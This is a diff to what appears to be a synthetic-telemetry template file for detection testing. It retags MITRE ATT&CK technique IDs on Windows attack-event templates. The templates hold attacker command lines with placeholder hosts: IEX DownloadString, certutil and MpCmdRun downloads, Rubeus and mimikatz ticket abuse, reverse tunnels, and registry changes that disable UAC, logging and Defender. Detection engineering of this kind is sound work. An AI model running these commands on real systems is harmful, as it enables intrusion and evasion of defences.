@@ -75,7 +75,7 @@ rh-msiexec-dll process +T1218.007: @ ;; msiexec.exe /«y¦z» "‹ownplace›\�
 rh-msbuild-net sysmon +T1127.001: 3 ;; Image=C:\Windows\Microsoft.NET\Framework«¦64»\v4.0.30319\MSBuild.exe ;; Protocol=tcp ;; Initiated=true ;; DestinationIp=‹ip› ;; DestinationPort=«80¦443¦8080¦4444»
 rh-msbuild-csproj sysmon +T1127.001: 1 ;; Image=C:\Windows\Microsoft.NET\Framework\v4.0.30319\MSBuild.exe ;; CommandLine=C:\Windows\Microsoft.NET\Framework\v4.0.30319\msbuild.exe ‹ownplace›\‹name›.«csproj¦xml¦proj» ;; ParentImage=«‹cmd›¦‹ps›¦‹office›» ;; IntegrityLevel=Medium
 rh-pubprn process +T1216.001: @ ;; cscript.exe /b C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs localhost "script:https://«raw.githubusercontent.com/‹name›¦‹ip›»/‹name›.sct" ;; ‹cmd›
-rh-syncappv process +T1216: @ ;; C:\windows\system32\SyncAppvPublishingServer.«vbs¦exe» "n;«Start-Process ‹name›.exe¦IEX(New-Object Net.WebClient).DownloadString('http://‹ip›/‹name›')»" ;; «‹cmd›¦C:\Windows\System32\wscript.exe»
+rh-syncappv process +T1216.002: @ ;; C:\windows\system32\SyncAppvPublishingServer.«vbs¦exe» "n;«Start-Process ‹name›.exe¦IEX(New-Object Net.WebClient).DownloadString('http://‹ip›/‹name›')»" ;; «‹cmd›¦C:\Windows\System32\wscript.exe»
 rh-manage-bde process +T1216: @ ;; cscript.exe //nologo «C:\Windows\System32\manage-bde.wsf¦"C:\Windows\diagnostics\system\networking\UtilityFunctions.ps1"» ‹own› ;; ‹cmd›
 rh-cl-loadassembly process +T1216: @ ;; powershell.exe -c "import-module C:\Windows\diagnostics\system\«Audio\CL_LoadAssembly.ps1; LoadAssemblyFromPath ..\..\..\..\‹dir›\‹name›.dll¦AERO\CL_Mutexverifiers.ps1; runAfterCancelProcess ‹own›»" ;; ‹cmd›
 rh-pcalua process +T1202: @ ;; «pcalua.exe -a ‹own›¦forfiles /p c:\windows\system32 /m notepad.exe /c ‹own›¦scriptrunner.exe -appvscript "‹own›"¦conhost.exe --headless ‹own›¦C:\Windows\System32\bash.exe -c "cmd.exe /c ‹own›"» ;; ‹cmd›
@@ -93,7 +93,7 @@ rh-uac-silentcleanup value +T1548.002: ‹writer› ;; ‹hku›\Environment\win
 rh-uac-eventvwr value +T1548.002: ‹writer› ;; ‹hku›_Classes\mscfile\shell\open\command\(Default) ;; «C:\Windows\System32\cmd.exe¦powershell.exe -enc ‹enc›»
 rh-uac-akagi process +T1548.002: @ ;; «%TEMP%\uacme\«23¦31¦33¦39¦56¦61»_Akagi64.exe¦"C:\Users\‹user›\AppData\Local\Temp\uacme\‹n› Akagi64.exe" ‹own›¦Akagi64.exe ‹n› ‹own›» ;; ‹cmd›
 rh-uac-eventviewer-file file +T1548.002: «‹own›¦‹ps›» ;; C:\Users\‹user›\AppData\Local\Microsoft\Event Viewer\RecentViews
-rh-uac-cor value +T1548.002: ‹writer› ;; ‹hku›\Environment\COR_PROFILER_PATH ;; C:\Users\‹user›\AppData\Local\Temp\‹name›.dll
+rh-uac-cor value +T1574.012: ‹writer› ;; ‹hku›\Environment\COR_PROFILER_PATH ;; C:\Users\‹user›\AppData\Local\Temp\‹name›.dll
 rh-uac-enablelua value +T1548.002: ‹writer› ;; HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\«EnableLUA¦ConsentPromptBehaviorAdmin¦PromptOnSecureDesktop» ;; DWORD (0x00000000)
 rh-uac-wusa-file file +T1548.002: C:\Windows\System32\«wusa¦dllhost».exe ;; C:\Windows\System32\«sysprep\cryptbase¦wbem\wbemcomn¦migwiz\cryptbase¦sysprep\dbgcore».dll
 rh-uac-ieinstal file +T1548.002: C:\Program Files\Internet Explorer\IEInstal.exe ;; C:\Users\‹user›\AppData\Local\Temp\IDC‹n›.tmp\«consent¦‹name›».exe
@@ -157,7 +157,7 @@ rh-audit-4719 security +T1685.001: 4719 ;; CategoryId=%%82«74¦72¦77» ;; Subc
 rh-eventlog-minint value +T1685.001: ‹writer› ;; HKLM\System\CurrentControlSet\Control\MiniNt\(Default) ;; «(Empty)¦DWORD (0x00000001)»
 rh-eventlog-channel value +T1685.001: «‹reg›¦‹ps›¦‹s32›\wevtutil.exe» ;; HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\WINEVT\Channels\Microsoft-Windows-«Sysmon/Operational¦PowerShell/Operational¦Windows Defender/Operational¦TaskScheduler/Operational»\Enabled ;; DWORD (0x00000000)
 rh-etw-autologger value +T1685.001: «‹reg›¦‹ps›» ;; HKLM\System\CurrentControlSet\Control\WMI\Autologger\EventLog-«Application¦System¦Security»\«Start¦Enabled» ;; DWORD (0x00000000)
-rh-etw-4104 log +T1685: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4104 ;; ScriptBlockText=Remove-EtwTraceProvider -AutologgerName «EventLog-Application¦DefenderApiLogger» -Guid '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}' ;; ScriptBlockId=‹guid› ;; Path=
+rh-etw-4104 log +T1685.001: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4104 ;; ScriptBlockText=Remove-EtwTraceProvider -AutologgerName «EventLog-Application¦DefenderApiLogger» -Guid '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}' ;; ScriptBlockId=‹guid› ;; Path=
 rh-dotnet-etw value +T1685: ‹writer› ;; ‹hku›\«Environment\COMPlus_ETWEnabled¦Software\Microsoft\.NETFramework\ETWEnabled» ;; «0¦DWORD (0x00000000)»
 rh-defender-5001 log +T1685: Microsoft-Windows-Windows Defender|Microsoft-Windows-Windows Defender/Operational|5001 ;; Product Name=%%827 ;; Product Version=4.18.«1906¦2011¦2105».‹n›
 rh-defender-5007-real log +T1685: Microsoft-Windows-Windows Defender|Microsoft-Windows-Windows Defender/Operational|5007 ;; Product Name=Microsoft Defender Antivirus ;; Product Version=4.18.‹pid›.‹n› ;; Old Value=N/A ;; New Value=HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\Disable«RealtimeMonitoring¦IOAVProtection¦ScriptScanning¦BehaviorMonitoring» = 0x1
@@ -254,11 +254,11 @@ rh-lat-winrshost sysmon +T1021.006: 1 ;; Image=‹cmd› ;; CommandLine=C:\Windo
 rh-lat-evilwinrm-4104 log +T1021.006: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4104 ;; ScriptBlockText=function Bypass-4MSI { «$code = @"¦» } function Invoke-Binary {$base64 = $args[0]} function Dll-Loader { param([switch]$smb,[switch]$local,[switch]$http,[string]$path) } ;; Path=
 rh-lat-rdp-tunnel-4624 security +T1021.001: 4624 ;; TargetUserName=«Administrator¦‹user›» ;; LogonType=10 ;; LogonProcessName=User32 ;; AuthenticationPackageName=Negotiate ;; IpAddress=«127.0.0.1¦::1» ;; IpPort=49‹n›7 ;; ProcessName=C:\Windows\System32\winlogon.exe
 rh-lat-rdp-1149-loop log +T1021.001: Microsoft-Windows-TerminalServices-RemoteConnectionManager|Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational|1149 ;; Param1=«Administrator¦‹user›» ;; Param2=‹domain› ;; Param3=«127.0.0.1¦::%16777216»
-rh-lat-rdp-port value +T1112: «‹reg›¦‹ps›» ;; HKLM\System\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp\PortNumber ;; DWORD (0x0000«115c¦1f90¦270f»)
+rh-lat-rdp-port value +T1021.001: «‹reg›¦‹ps›» ;; HKLM\System\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp\PortNumber ;; DWORD (0x0000«115c¦1f90¦270f»)
 rh-lat-tscon-svc service +T1563.002: «sesshijack¦‹name›» ;; cmd.exe /k tscon ‹n› /dest:rdp-tcp#«55¦0¦‹n›»
 rh-lat-tscon sysmon +T1563.002: 1 ;; Image=C:\Windows\System32\tscon.exe ;; CommandLine=tscon ‹n› /dest:rdp-tcp#‹n› ;; User=NT AUTHORITY\SYSTEM ;; IntegrityLevel=System ;; ParentImage=‹cmd›
 rh-lat-shadow process +T1563.002: @ ;; mstsc.exe /v:‹server› /shadow:‹n› /control /noConsentPrompt«¦ /prompt» ;; «‹cmd›¦‹own›»
-rh-lat-copy-line process +T1570: @ ;; «copy ‹own› \\‹ip›\ADMIN$\Temp\‹name›.exe¦xcopy /y ‹own› \\‹server›\C$\ProgramData\¦cmd /c copy ‹ownplace›\‹name›.dll \\‹server›\C$\Windows\Temp\» ;; ‹cmd›
+rh-lat-copy-line process +T1570: @ ;; «cmd.exe /c copy ‹own› \\‹ip›\ADMIN$\Temp\‹name›.exe¦xcopy /y ‹own› \\‹server›\C$\ProgramData\¦cmd /c copy ‹ownplace›\‹name›.dll \\‹server›\C$\Windows\Temp\» ;; ‹cmd›
 rh-lat-pth-4624 security +T1550.002: 4624 ;; SubjectUserName=‹user› ;; TargetUserName=‹user› ;; TargetLogonId=0x‹pid›b ;; LogonType=9 ;; LogonProcessName=seclogo ;; AuthenticationPackageName=Negotiate ;; ProcessName=C:\Windows\System32\svchost.exe ;; IpAddress=::1 ;; LogonGuid={00000000-0000-0000-0000-000000000000} ;; TargetOutboundUserName=‹user›
 rh-lat-ptt-line process +T1550.003: @ ;; «Rubeus.exe ptt /ticket:‹name›.kirbi¦mimikatz.exe "kerberos::ptt ‹name›.kirbi" exit¦PSTools\PsExec.exe -accepteula \\‹server› cmd.exe & Rubeus.exe asktgt /user:‹user› /rc4:‹hash› /ptt» ;; ‹cmd›
 rh-lat-remcmd-svc security +T1569.002: 4697 ;; ServiceName=«PSEXESVC¦csexecsvc¦smbexec_‹name›¦RemComSvc» ;; ServiceFileName=%SystemRoot%\«PSEXESVC¦csexec¦RemComSvc».exe ;; ServiceType=0x10 ;; ServiceStartType=3 ;; ServiceAccount=LocalSystem ;; ClientProcessId=0
@@ -267,7 +267,7 @@ rh-lat-5141-dcshadow security +T1207: 5141 ;; DSName=‹fqdn› ;; DSType=%%1467
 # Collection, control, exfiltration
 rh-c2-certutil sysmon +T1105: 1 ;; Image=C:\Windows\System32\certutil.exe ;; CommandLine=certutil -urlcache -split -f http«s¦»://«‹ip›¦raw.githubusercontent.com/‹name›/‹word›/master»/‹name›.«exe¦txt» ‹name›.exe ;; OriginalFileName=CertUtil.exe ;; ParentImage=‹cmd›
 rh-c2-certutil-dns asked +T1105: C:\Windows\System32\«certutil¦bitsadmin¦desktopimgdownldr».exe ;; «raw.githubusercontent.com¦pastebin.com¦transfer.sh»
-rh-c2-desktopimg process +T1105: @ ;; set "SYSTEMROOT=C:\Windows\Temp" && cmd /c desktopimgdownldr.exe /lockscreenurl:https://‹ip›/‹name›.exe /eventName:desktopimgdownldr ;; ‹cmd›
+rh-c2-desktopimg process +T1105: @ ;; cmd.exe /c set "SYSTEMROOT=C:\Windows\Temp" && cmd /c desktopimgdownldr.exe /lockscreenurl:https://‹ip›/‹name›.exe /eventName:desktopimgdownldr ;; ‹cmd›
 rh-c2-mpcmd process +T1105: @ ;; "C:\ProgramData\Microsoft\Windows Defender\platform\4.18.‹pid›.‹n›-0\MpCmdRun.exe" -DownloadFile -url http://‹ip›/‹name›.exe -path ‹own› ;; ‹cmd›
 rh-c2-beacon-pipe sysmon +T1055: 17 ;; EventType=CreatePipe ;; PipeName=\«MSSE-‹pid›-server¦postex_‹pid›¦msagent_‹n›a¦status_‹n›¦demoagent_11» ;; Image=«‹own›¦C:\Windows\System32\rundll32.exe»
 rh-c2-malleable-dns sysmon +T1071.004: 22 ;; QueryName=aaa.stage.‹pid›‹pid›.«c2¦ns1¦dns».‹word›.«xyz¦top» ;; QueryStatus=«0¦9003» ;; QueryResults=type: 16 ;; Image=«‹own›¦C:\Windows\System32\rundll32.exe»
@@ -277,8 +277,8 @@ rh-c2-portproxy value +T1090: ‹s32›\netsh.exe ;; HKLM\System\CurrentControlS
 rh-c2-plink sysmon +T1572: 1 ;; Image=‹ownplace›\plink.exe ;; Description=Command-line SSH, Telnet, and Rlogin client ;; Company=Simon Tatham ;; CommandLine=plink.exe -ssh -P 22 -l ‹name› -pw ‹pass› -R ‹port›:127.0.0.1:3389 ‹ip› ;; ParentImage=‹cmd›
 rh-c2-ngrok asked +T1572: «‹own›¦‹ownplace›\ngrok.exe» ;; tunnel.«us¦eu¦ap».ngrok.com
 rh-c2-chisel process +T1572: @ ;; «chisel.exe client ‹ip›:8080 R:socks¦‹ownplace›\chisel64.exe client --fingerprint ‹hash› ‹ip›:443 R:0.0.0.0:1080:socks» ;; ‹cmd›
-rh-c2-anydesk sysmon +T1219: 1 ;; Image=C:\ProgramData\AnyDesk.exe ;; CommandLine=«C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent¦"C:\ProgramData\anydesk.exe" --set-password» ;; Company=AnyDesk Software GmbH ;; ParentImage=‹cmd›
-rh-c2-rmm-svc service +T1219: «AteraAgent¦rutserv¦ScreenConnect Client (‹hash›)» ;; «C:\ProgramData\‹name›\rutserv.exe -service¦"C:\Users\Public\ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h=‹ip›&p=8041"¦C:\Windows\Temp\AteraAgent.exe»
+rh-c2-anydesk sysmon +T1219.002: 1 ;; Image=C:\ProgramData\AnyDesk.exe ;; CommandLine=«C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent¦"C:\ProgramData\anydesk.exe" --set-password» ;; Company=AnyDesk Software GmbH ;; ParentImage=‹cmd›
+rh-c2-rmm-svc service +T1219.002: «AteraAgent¦rutserv¦ScreenConnect Client (‹hash›)» ;; «C:\ProgramData\‹name›\rutserv.exe -service¦"C:\Users\Public\ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h=‹ip›&p=8041"¦C:\Windows\Temp\AteraAgent.exe»
 rh-col-screen file +T1113: «‹own›¦C:\Windows\System32\rundll32.exe» ;; C:\Users\‹user›\AppData\Local\Temp\«screen_‹n›¦screenshot‹n›¦T1113_desktop».«png¦jpg¦bmp»
 rh-col-psr process +T1113: @ ;; psr.exe /start /output ‹ownplace›\«T1113_desktop¦‹name›».zip /sc 1 /gui 0 /stopevent 12 ;; ‹cmd›
 rh-col-screen-4104 log +T1113: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4104 ;; ScriptBlockText=Add-Type -AssemblyName System.Windows.Forms; $screen = [Windows.Forms.SystemInformation]::VirtualScreen; $bitmap = New-Object Drawing.Bitmap $screen.Width, $screen.Height; $graphic.CopyFromScreen($screen.Left, $screen.Top, 0, 0, $bitmap.Size); $bitmap.Save("$env:TEMP\‹name›.png") ;; Path=
